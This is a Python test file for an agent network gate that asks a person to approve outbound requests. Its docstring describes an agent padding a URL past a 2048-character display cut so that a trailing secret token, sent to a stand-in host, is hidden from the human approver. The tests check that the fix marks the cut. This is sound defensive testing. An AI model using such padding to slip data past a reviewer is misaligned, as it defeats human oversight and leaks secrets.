"""Review s20 (gate): the request line a person is asked about is the one that goes out.

The gate cut the request target it put on the question (NetAsk.target, the card's "first
request" row) and in the recorded decision to 2048 characters, and said nothing about the cut.
An agent that pads a URL past 2048 characters (`GET http://api.invalid/search?q=aaaa...` then
`&token=...`) had the person read and allow a request line whose end, the part that carries
the data, was never on the card, while the whole URL went out; the history showed the same cut
line as the request. The cut is now marked with how much was cut.
"""

from __future__ import annotations

import asyncio
from typing import Any

from console.gate import NetAsk, NetworkRules, Verdict

from .support import Harness, Origin, read_response, running

PAD = "a" * 2100
SECRET = "&token=s3cr3t-from-the-sandbox"
URL = f"http://api.invalid/search?q={PAD}{SECRET}"


def _presents_as_whole_but_is_not(shown: str, raw: str) -> bool:
    """A prefix of the raw target, shown with nothing saying that the rest is missing."""
    return shown != raw and raw.startswith(shown)


async def through_gate(head: str, ask: Any = None) -> tuple[int, list[str], Harness]:
    """`head` sent to a gate that asks about everything: (the status, the paths the origin
    got, the harness with its records)."""
    origin = Origin()
    h = Harness(NetworkRules(default="ask", ports=[80, 443]), upstream_port=origin.port, ask=ask)
    try:
        async with running(h):
            reader, writer = await h.open()
            writer.write(head.encode())
            await writer.drain()
            status = (await read_response(reader))[0]
            writer.close()
    finally:
        origin.close()
    await asyncio.sleep(0)
    return status, [r["path"] for r in origin.requests], h


async def asked_and_sent(url: str) -> tuple[int, list[str], list[NetAsk], str]:
    """A GET of `url` a person allows: (its status, the paths the origin got, the questions
    asked, the target the decision recorded)."""
    questions: list[NetAsk] = []

    async def person(q: NetAsk) -> Verdict:
        questions.append(q)
        return Verdict(True, {"by": "alice", "grant": "once"})

    status, paths, h = await through_gate(f"GET {url} HTTP/1.1\r\nConnection: close\r\n\r\n",
                                          person)
    return status, paths, questions, h.kinds("net.decision")[0]["target"]


async def test_a_target_past_the_cut_is_marked_as_cut_on_the_question_and_the_record() -> None:
    status, paths, questions, decision = await asked_and_sent(URL)
    assert status == 200
    assert paths == [URL.removeprefix("http://api.invalid")]
    assert len(questions) == 1
    asked = questions[0].target
    assert not _presents_as_whole_but_is_not(asked, URL), asked[-80:]
    assert asked == URL or "not shown" in asked[-80:], asked[-80:]
    assert not _presents_as_whole_but_is_not(decision, URL), decision[-80:]


async def test_a_target_within_the_bound_is_asked_and_recorded_as_it_is() -> None:
    short = "http://api.invalid/search?q=x&page=2"
    status, _, questions, decision = await asked_and_sent(short)
    assert status == 200
    assert questions[0].target == short
    assert decision == short


async def test_a_rejected_target_past_the_cut_is_recorded_marked_as_cut() -> None:
    """A request refused before any question (an origin-form target: never asked, never
    dialled) is recorded as net.rejected; its target past the bound said nothing of the cut."""
    raw = f"/search?q={PAD}{SECRET}"
    status, paths, h = await through_gate(f"GET {raw} HTTP/1.1\r\nHost: api.invalid\r\n\r\n")
    assert status == 400
    assert paths == []
    recorded = h.kinds("net.rejected")[0]["target"]
    assert not _presents_as_whole_but_is_not(recorded, raw), recorded[-80:]
    assert "not shown" in recorded[-80:], recorded[-80:]
